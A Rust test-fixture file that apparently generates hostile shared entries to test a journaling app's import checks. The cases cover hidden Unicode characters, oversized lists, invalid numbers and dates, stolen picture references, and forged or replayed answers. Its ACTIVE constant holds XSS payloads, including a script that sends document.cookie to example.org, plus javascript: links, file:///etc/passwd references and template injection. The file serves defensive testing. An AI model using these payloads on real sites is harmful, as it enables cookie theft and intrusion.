//! Attacks in what is said: letters that pass for others, lists and numbers that do not end, other people's pictures, and questions
//! answered out of turn.

use serde_json::{Value, json};
use uuid::Uuid;

use super::{
    Attacks, Result,
    picture::{self, Said},
    reader::{ANSWERED, Cast, FIRST_ANSWER, FIXED_ANSWER, Known, OPEN, UNANSWERED, answer, ask, reveal},
    sender::Sender,
    share_of, shared, text,
};

/// What a page would do harm with if it took it for anything but words.
const ACTIVE: &str = r#"<script>fetch('https://example.org/?'+document.cookie)</script>
<img src=x onerror=alert(1)> <svg onload=alert(1)><style>*{display:none}</style>
[click](javascript:alert(1)) [or](data:text/html;base64,PHNjcmlwdD4=) <javascript:alert(1)> [here](file:///etc/passwd)
![](https://example.org/seen.png) ![](file:///etc/passwd) ![](data:image/svg+xml,<svg/>) ![](../../journal.mend)
<iframe src="https://example.org"></iframe> <a href="ipc://localhost/lock">lock</a> {{constructor.constructor('1')()}} ${7*7}
"#;

pub(super) fn add(to: &mut Attacks, cast: &Cast, known: &Known) -> Result<()> {
    letters(to, cast, known)?;
    lists(to, cast, known)?;
    names_of_pictures(to, cast, known)?;
    questions(to, cast, known)
}

fn letters(to: &mut Attacks, Cast { ash, .. }: &Cast, Known { keys, kept, .. }: &Known) -> Result<()> {
    let mut number = 0x600;
    let mut put = |name, outcome, entry: Value| -> Result<()> {
        number += 1;
        to.add(name, outcome, ash.file(number, keys, shared(vec![entry], vec![]))?);
        Ok(())
    };
    let tagged = |tag: &str| json!({ "title": "", "day": null, "tags": [tag], "feelings": [], "body": "there", "pictures": [] });
    put("body-with-active-words", "ok", text("Hello", ACTIVE))?;
    put("title-with-active-words", "ok", text("<b>Hello</b><script>alert(1)</script>", "there"))?;
    put("title-with-a-path", "ok", text("../../../../etc/passwd", "there"))?;
    put("title-turned-around", "HiddenCharacters", text("nothing\u{202e}gnihtyreve", "there"))?;
    put("title-of-two-lines", "HiddenCharacters", text("Hello\nYour partner was compared", "there"))?;
    put("title-with-a-bell", "HiddenCharacters", text("Hello\u{7}\u{1b}[2J", "there"))?;
    put("title-of-five-thousand", "Malformed", text(&"x".repeat(5_000), "there"))?;
    put("title-not-normalised", "ok", text("Cafe\u{301}", "there"))?;
    put("tag-of-no-width", "HiddenCharacters", tagged("us\u{200b}"))?;
    put("tag-with-a-soft-hyphen", "HiddenCharacters", tagged("u\u{ad}s"))?;
    put("tag-of-a-joiner", "HiddenCharacters", tagged("\u{200d}"))?;
    put("tag-of-a-filler", "HiddenCharacters", tagged("\u{3164}"))?;
    put("tag-of-a-family", "ok", tagged("\u{1f469}\u{200d}\u{1f469}\u{200d}\u{1f467} \u{2764}\u{fe0f}"))?;
    put("tag-turned-around", "HiddenCharacters", tagged("\u{2067}us"))?;
    put("tag-of-tag-letters", "HiddenCharacters", tagged("us\u{e0061}"))?;
    put("body-with-nul", "HiddenCharacters", text("Hello", "the\0re"))?;
    put("body-with-a-file-inside", "ok", text("Hello", &hex::encode(kept)))?;
    put("body-of-combining-marks", "ok", text("Hello", &format!("a{}", "\u{301}".repeat(20_000))))?;
    to.add(
        "note-with-nul",
        "HiddenCharacters",
        ash.file(0x6f1, keys, json!({ "share": { "note": "\0", "entries": [], "measures": [] } }))?,
    );
    to.add("nothing-said", "Malformed", ash.file(0x6f2, keys, share_of(" ", "\n"))?);
    Ok(())
}

fn lists(to: &mut Attacks, Cast { ash, .. }: &Cast, Known { keys, .. }: &Known) -> Result<()> {
    let many = |what: &str, count| vec![Value::from(what); count];
    let listed = |tags: usize, feelings: usize, pictures: usize| {
        let said = json!({ "media": "image/png", "width": 1, "height": 1, "length": 0 });
        json!({ "title": "Hello", "day": null, "tags": many("", tags), "feelings": many("", feelings), "body": "", "pictures": vec![said; pictures] })
    };
    for (name, content) in [
        ("entries-1001", shared(vec![text("", "a"); 1_001], vec![])),
        ("tags-201", shared(vec![listed(201, 0, 0)], vec![])),
        ("feelings-501", shared(vec![listed(0, 501, 0)], vec![])),
        ("pictures-201", shared(vec![listed(0, 0, 201)], vec![])),
        ("measures-21", shared(vec![], vec![measure("energy", "", &[]); 21])),
    ] {
        to.add(name, "Malformed", ash.file(0x701, keys, content)?);
    }
    let days = |days: &[(&str, f64)]| shared(vec![], vec![measure("energy", "", days)]);
    let spoilt = |from: &str, into: &str| -> Result<Vec<u8>> {
        let document = serde_json::to_string(&ash.document(0x702, keys, days(&[("2026-11-02", 3.0)]))?)?;
        super::sender::seal(&ash.signed(document.replacen(from, into, 1).as_bytes(), b""), keys)
    };
    to.add("measure", "ok", ash.file(0x703, keys, days(&[("2026-11-02", 3.0), ("2026-11-05", 4.0)]))?);
    to.add("value-behind-all-numbers", "Malformed", spoilt("3.0", "1e400")?);
    to.add("value-of-many-digits", "ok", spoilt("3.0", &format!("3.{}", "1".repeat(20_000)))?);
    to.add("value-that-is-none", "Malformed", spoilt("3.0", "NaN")?);
    to.add("value-without-end", "Malformed", spoilt("3.0", "Infinity")?);
    to.add("value-null", "Malformed", spoilt("3.0", "null")?);
    to.add("days-out-of-order", "Malformed", ash.file(0x704, keys, days(&[("2026-11-05", 3.0), ("2026-11-02", 3.0)]))?);
    to.add("day-twice", "Malformed", ash.file(0x705, keys, days(&[("2026-11-05", 3.0), ("2026-11-05", 4.0)]))?);
    to.add("day-outside-the-period", "Malformed", ash.file(0x706, keys, days(&[("2027-11-05", 3.0)]))?);
    let period = |from: &str, to: &str| {
        let mut measure = measure("energy", "", &[]);
        (measure["from"], measure["to"]) = (from.into(), to.into());
        shared(vec![], vec![measure])
    };
    to.add("period-backwards", "Malformed", ash.file(0x708, keys, period("2026-11-30", "2026-11-01"))?);
    to.add("period-of-all-time", "Malformed", ash.file(0x709, keys, period("0001-01-01", "9999-12-31"))?);
    to.add("period-behind-all-calendars", "Malformed", ash.file(0x70a, keys, period("-200000-01-01", "+200000-12-31"))?);
    let named = shared(vec![], vec![measure("own", "sleep\u{202e}peels", &[])]);
    to.add("measure-turned-around", "HiddenCharacters", ash.file(0x707, keys, named)?);
    Ok(())
}

fn measure(measure: &str, name: &str, days: &[(&str, f64)]) -> Value {
    let days: Vec<Value> = days.iter().map(|(day, value)| json!({ "day": day, "value": value })).collect();
    json!({ "measure": measure, "name": name, "from": "2026-11-01", "to": "2026-11-30", "days": days })
}

/// Texts that show pictures which are not theirs.
fn names_of_pictures(to: &mut Attacks, Cast { ash, .. }: &Cast, known: &Known) -> Result<()> {
    let png = picture::small_png()?;
    let said = Said { media: "image/png", width: 2, height: 2, length: png.len() as u64 };
    let own = &known.picture;
    let bodies = [
        ("shows-its-own-picture", "ok", "![one](picture:0)".to_owned()),
        ("shows-the-readers-picture", "Malformed", format!("![mine](picture:{own})")),
        ("shows-the-readers-picture-by-reference", "Malformed", format!("![mine][m]\n\n[m]: picture:{own}\n")),
        ("shows-the-readers-picture-in-disguise", "Malformed", format!("![mine](<pi&#99;ture:{own}>)")),
        ("shows-the-readers-picture-within-another", "Malformed", format!("![a ![mine](picture:{own})](https://example.org)")),
        ("links-to-the-readers-picture", "ok", format!("[mine](picture:{own}) `![](picture:{own})`")),
        ("shows-a-picture-that-is-not-there", "Malformed", "![six](picture:5)".to_owned()),
        ("shows-a-picture-spelled-otherwise", "Malformed", "![one](picture:00)".to_owned()),
        ("shows-a-picture-with-a-path", "Malformed", "![one](picture:../0)".to_owned()),
        ("shows-a-picture-of-no-number", "Malformed", "![one](picture:-1) ![](picture:1e0) ![](picture:)".to_owned()),
        ("shows-a-picture-behind-all-numbers", "Malformed", "![one](picture:99999999999999999999)".to_owned()),
    ];
    for (number, (name, outcome, body)) in (0x801..).zip(bodies) {
        let content = shared(vec![said.clone().within(text("Hello", &body))], vec![]);
        to.add(name, outcome, ash.file_with(number, &known.keys, content, &png)?);
    }
    // Of the other text in the same file.
    let content = shared(vec![said.within(text("One", "mine")), text("Two", "![of the first](picture:0)")], vec![]);
    to.add("shows-the-other-texts-picture", "Malformed", ash.file_with(0x8f1, &known.keys, content, &png)?);
    Ok(())
}

fn questions(to: &mut Attacks, Cast { ash, robin, mallory, .. }: &Cast, known: &Known) -> Result<()> {
    let Known { keys, waiting, answered, opened, .. } = known;
    let mut number = 0x900;
    let mut put = |name, outcome, by: &Sender, content: Value| -> Result<()> {
        number += 1;
        to.add(name, outcome, by.file(number, keys, content)?);
        Ok(())
    };
    put("answer", "ok", ash, answer(waiting, "You."))?;
    put("answer-to-other-words", "NoQuestion", ash, answer(&(waiting.0.clone(), "00".repeat(32)), "You."))?;
    put("answer-to-nothing", "NoQuestion", ash, answer(&(Uuid::from_u128(7).to_string(), waiting.1.clone()), "You."))?;
    put("answer-from-another-partner", "NoQuestion", robin, answer(waiting, "You."))?;
    put("answer-from-a-stranger", "UnknownSender", mallory, answer(waiting, "You."))?;
    put("answer-again", "Again", ash, answer(answered, FIRST_ANSWER))?;
    put("answer-changed", "OtherAnswer", ash, answer(answered, "I was at home."))?;
    put("answer-to-ones-own-question", "NoQuestion", ash, answer(&(ANSWERED.to_string(), waiting.1.clone()), "You."))?;
    put("answer-of-nothing", "Malformed", ash, answer(waiting, " "))?;
    put("answer-with-nul", "HiddenCharacters", ash, answer(waiting, "You\0."))?;
    put("answer-to-a-short-number", "Malformed", ash, answer(&(waiting.0.clone(), "00".repeat(31)), "You."))?;

    put("ask-again", "Again", ash, ask(ash, UNANSWERED, "What do you hope for?"))?;
    put("ask-again-in-other-words", "Again", ash, ask(ash, ANSWERED, "What do you regret?"))?;
    put("ask-with-the-id-of-anothers", "ok", robin, ask(robin, UNANSWERED, "What do you hope for?"))?;
    put("ask-with-the-readers-id", "ok", ash, ask(ash, waiting.0.parse()?, "What did you miss?"))?;
    put("ask-nothing", "Malformed", ash, ask(ash, Uuid::from_u128(0xb1), ""))?;

    put("reveal", "ok", ash, reveal(ANSWERED, FIXED_ANSWER))?;
    put("reveal-another-answer", "OtherAnswer", ash, reveal(ANSWERED, "The rain."))?;
    put("reveal-one-space-more", "OtherAnswer", ash, reveal(ANSWERED, &format!("{FIXED_ANSWER} ")))?;
    let mut other = reveal(ANSWERED, FIXED_ANSWER);
    other["reveal"]["nonce"] = "08".repeat(32).into();
    put("reveal-with-another-number", "OtherAnswer", ash, other)?;
    put("reveal-to-nothing", "NoQuestion", ash, reveal(Uuid::from_u128(7), FIXED_ANSWER))?;
    put("reveal-before-the-answer", "NoQuestion", ash, reveal(UNANSWERED, FIXED_ANSWER))?;
    put("reveal-of-anothers-question", "NoQuestion", robin, reveal(ANSWERED, FIXED_ANSWER))?;
    put("reveal-of-the-readers-question", "NoQuestion", ash, reveal(waiting.0.parse()?, FIXED_ANSWER))?;
    put("reveal-again-changed", "OtherAnswer", ash, reveal(OPEN, "The rain."))?;
    to.add("reveal-again", "Again", opened.clone());
    Ok(())
}
